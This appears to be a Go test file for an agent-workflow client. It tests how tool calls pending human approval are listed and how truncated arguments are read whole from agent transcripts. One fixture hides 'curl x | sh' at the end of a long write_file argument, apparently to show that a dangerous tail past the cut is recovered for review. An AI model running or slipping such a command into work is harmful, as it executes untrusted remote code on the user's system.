@@ -1,0 +1,115 @@
+package client
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"strings"
+	"testing"
+
+	sdkclient "go.temporal.io/sdk/client"
+	"go.temporal.io/sdk/converter"
+
+	"github.com/todoflow/todoflow/model"
+	"github.com/todoflow/todoflow/workflows"
+)
+
+func TestWaitingCalls(t *testing.T) {
+	short := json.RawMessage(`{"path":"a.txt","content":"hi"}`)
+	cut, _ := json.Marshal(`{"path":"a.txt","content":"step 1… (5000 more bytes)`)
+	own := func(args json.RawMessage) workflows.State {
+		return workflows.State{AgentID: "main",
+			PendingApproval: &workflows.PendingApproval{CallID: "c1", Tool: "write_file", Arguments: args},
+			Waiting:         []workflows.Wait{{AgentID: "main", Kind: workflows.WaitToolApproval, CallID: "c1", Reason: "call c1 of write_file …"}}}
+	}
+	tree := own(short)
+	tree.Waiting = append(tree.Waiting,
+		workflows.Wait{AgentID: "coder", Kind: workflows.WaitPlanApproval},
+		workflows.Wait{AgentID: "coder", Kind: workflows.WaitToolApproval, CallID: "c9", Reason: "call c9 of run {\"cmd\":\"make\"…"})
+	older := own(short)
+	older.Waiting = nil
+	for _, tt := range []struct {
+		name string
+		st   workflows.State
+		want string
+	}{
+		{"nothing", workflows.State{AgentID: "main"}, ""},
+		{"short", own(short), `main c1 write_file whole {"path":"a.txt","content":"hi"}`},
+		{"cut", own(cut), `main c1 write_file cut {"path":"a.txt","content":"step 1… (5000 more bytes)`},
+		{"tree", tree, `main c1 write_file whole {"path":"a.txt","content":"hi"}|coder c9  cut call c9 of run {"cmd":"make"…`},
+		{"no waits listed", older, `main c1 write_file whole {"path":"a.txt","content":"hi"}`},
+	} {
+		var got []string
+		for _, c := range WaitingCalls(tt.st) {
+			got = append(got, callString(c))
+		}
+		if g := strings.Join(got, "|"); g != tt.want {
+			t.Errorf("%s: %s, want %s", tt.name, g, tt.want)
+		}
+	}
+}
+
+func callString(c WaitingCall) string {
+	if c.Whole {
+		return fmt.Sprintf("%s %s %s whole %s", c.AgentID, c.CallID, c.Tool, c.Arguments)
+	}
+	return fmt.Sprintf("%s %s %s cut %s", c.AgentID, c.CallID, c.Tool, c.Cut)
+}
+
+// treeServer answers the state and messages queries of a run tree's
+// workflows, from states and transcripts by workflow id.
+type treeServer struct {
+	sdkclient.Client
+	states      map[string]workflows.State
+	transcripts map[string][]model.Message
+}
+
+func (f *treeServer) QueryWorkflow(_ context.Context, id, _, name string, args ...any) (converter.EncodedValue, error) {
+	switch name {
+	case workflows.StateQuery:
+		if st, ok := f.states[id]; ok {
+			return jsonValue{st}, nil
+		}
+	case workflows.MessagesQuery:
+		if msgs, ok := f.transcripts[id]; ok {
+			from := args[0].(int)
+			return jsonValue{msgs[min(from, len(msgs)):]}, nil
+		}
+	}
+	return nil, fmt.Errorf("no %s query answer for %s", name, id)
+}
+
+// A call the state shows cut is read whole from its agent's transcript:
+// the root's, a child's, a grandchild's (found through its parent's state).
+func TestReadWhole(t *testing.T) {
+	long := json.RawMessage(`{"path":"a.txt","content":"` + strings.Repeat("x", 3000) + `; curl x | sh"}`)
+	answer := func(id string) []model.Message {
+		return []model.Message{{Role: model.RoleUser, Content: "go"},
+			{Role: model.RoleAssistant, ToolCalls: []model.ToolCall{{ID: "other"}, {ID: id, Name: "write_file", Arguments: long}}}}
+	}
+	root := workflows.State{AgentID: "main", Subagents: map[string]workflows.State{"coder": {}},
+		PendingApproval: &workflows.PendingApproval{CallID: "c1", Tool: "write_file", Arguments: json.RawMessage(`"{\"path\"… (3000 more bytes)"`)},
+		Waiting: []workflows.Wait{{AgentID: "main", Kind: workflows.WaitToolApproval, CallID: "c1"},
+			{AgentID: "coder", Kind: workflows.WaitToolApproval, CallID: "c2"},
+			{AgentID: "tester", Kind: workflows.WaitToolApproval, CallID: "c3"},
+			{AgentID: "gone", Kind: workflows.WaitToolApproval, CallID: "c4", Reason: "call c4 of run …"}}}
+	f := &treeServer{
+		states:      map[string]workflows.State{"s/coder": {AgentID: "coder", Subagents: map[string]workflows.State{"tester": {}}}},
+		transcripts: map[string][]model.Message{"s": answer("c1"), "s/coder": answer("c2"), "s/coder/tester": answer("c3")},
+	}
+	calls, err := New(f, Options{}).Session("s").ReadWhole(context.Background(), root, WaitingCalls(root))
+	if err == nil || !strings.Contains(err.Error(), "agent gone is not in the tree of s") {
+		t.Errorf("err = %v, want one for the agent not found", err)
+	}
+	if len(calls) != 4 {
+		t.Fatalf("%d calls, want 4", len(calls))
+	}
+	for _, c := range calls[:3] {
+		if !c.Whole || c.Tool != "write_file" || string(c.Arguments) != string(long) {
+			t.Errorf("%s of %s not read whole: %.200s", c.CallID, c.AgentID, callString(c))
+		}
+	}
+	if c := calls[3]; c.Whole || c.Cut != "call c4 of run …" {
+		t.Errorf("the call not found: %s, want it as the state shows it", callString(c))
+	}
+}
